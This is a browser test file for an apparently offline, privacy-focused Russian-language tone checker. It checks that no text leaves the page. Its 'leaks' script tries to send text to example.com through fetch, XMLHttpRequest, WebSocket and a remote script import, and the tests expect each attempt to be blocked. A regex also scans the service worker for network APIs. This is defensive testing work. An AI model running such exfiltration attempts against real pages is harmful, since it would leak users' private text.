import { readFileSync } from "node:fs";
import { join } from "node:path";
import { describe, expect, test } from "vitest";
import { siteFolder } from "./site.ts";
import { cardOf, hasBrowser, paste, textOf, useSite, type Visit } from "./visit.ts";

const visit = useSite();
const rude = "Не можем с вами согласиться: вы сами виноваты в поломке.";

/** Tries to get a text out, by all that a script can try. */
const leaks = `(async () => {
  const tries = {
    foreign: () => fetch("https://example.com/?text"),
    own: () => fetch(new URL("leak?text", location.href.replace(/^blob:/, ""))),
    mode: () => fetch("https://example.com/?text", { mode: "no-cors" }),
    request: () => new Promise((resolve, reject) => {
      const request = new XMLHttpRequest();
      request.onload = resolve;
      request.onerror = () => reject(new Error("refused"));
      request.open("GET", "https://example.com/?text");
      request.send();
    }),
    socket: () => new Promise((resolve, reject) => {
      const socket = new WebSocket("wss://example.com/?text");
      socket.onopen = resolve;
      socket.onerror = () => reject(new Error("refused"));
    }),
    script: () => import("https://example.com/leak.js?text"),
  };
  const gone = [];
  for (const [name, attempt] of Object.entries(tries)) {
    try {
      await attempt();
      gone.push(name);
    } catch {}
  }
  return gone;
})()`;

/** Addresses that left the site's own folder. */
function foreign({ requests, site }: Visit): string[] {
  return requests.filter((url) => !url.startsWith(site.address) && !/^(blob|data):/.test(url));
}

describe.skipIf(!hasBrowser)("privacy, and no network", () => {
  test("no request leaves, and no text is in one", async () => {
    const visited = await visit();
    const { page } = visited;
    await page.getByRole("button", { name: "Клиника" }).click();
    await page.locator(".card").first().waitFor();
    await page.locator(".why summary").first().click();
    await page.locator(".rewrite").first().click();
    await page.getByRole("tab", { name: "Письмо" }).click();
    await page.getByRole("button", { name: "Рассылка" }).click();
    await cardOf(page, "pressure").first().waitFor();
    await page.getByRole("button", { name: "Поделиться" }).click();
    await page.waitForTimeout(300);
    expect(foreign(visited)).toEqual([]);
    expect(visited.requests.filter((url) => !url.startsWith("blob:") && /[?#]/.test(url))).toEqual([]);
    expect(visited.errors).toEqual([]);
  });

  test("the policy lets neither the page nor its worker connect to anything, not even to its own host", async () => {
    const visited = await visit();
    const { page, site } = visited;
    await paste(page, rude);
    await cardOf(page, "arguing").waitFor();
    expect(await page.evaluate(leaks)).toEqual([]);
    expect(page.workers()).toHaveLength(1);
    expect(await page.workers()[0]?.evaluate(leaks)).toEqual([]);
    expect(site.asked.filter((path) => path.includes("leak"))).toEqual([]);
  });

  test("the service worker asks for nothing but files of the site", () => {
    const code = readFileSync(join(siteFolder, "sw.js"), "utf8");
    // One fetch, of what is below its own folder; the rest is the browser's own cache.
    expect(code.match(/fetch\(/g)).toHaveLength(1);
    expect(code).not.toMatch(/XMLHttpRequest|WebSocket|sendBeacon|importScripts|https?:/);
  });

  test("after the first visit all works without a network, in the language that was needed", async () => {
    const { page, context, site } = await visit();
    await paste(page, rude);
    await cardOf(page, "arguing").waitFor();
    const keeps = () =>
      page.evaluate(async () => {
        const names = await caches.keys();
        const keys = await Promise.all(names.map(async (name) => (await caches.open(name)).keys()));
        return keys.flat().some(({ url }) => url.includes("/assets/rules-ru-"));
      });
    await expect.poll(keeps, { timeout: 15_000 }).toBe(true);
    await context.setOffline(true);
    const asked = site.asked.length;
    await page.reload();
    await page.getByText("Нет сети, но всё работает").waitFor();
    await paste(page, rude);
    await cardOf(page, "arguing").waitFor();
    await page.getByRole("tab", { name: "Таблица ответов" }).click();
    const table = { name: "ответы.csv", mimeType: "text/csv", buffer: Buffer.from(`Ответ\n${rude}\n`) };
    await page.locator("input[type=file]").setInputFiles(table);
    await page.locator(".texts").waitFor();
    expect(site.asked.slice(asked)).toEqual([]);
    await context.setOffline(false);
  });

  test("a language whose rules do not come says so, the text is safe, and is checked when they come", async () => {
    const { page, context } = await visit();
    await paste(page, rude);
    await cardOf(page, "arguing").waitFor();
    await context.setOffline(true);
    await page.getByRole("button", { name: "Очистить" }).click();
    await paste(page, "We strongly disagree with your account of what happened that day.");
    await page.getByText("Правила этого языка ещё не загружены").waitFor();
    expect(await textOf(page)).toContain("strongly disagree");
    await context.setOffline(false);
    await cardOf(page, "arguing").waitFor();
  });
});
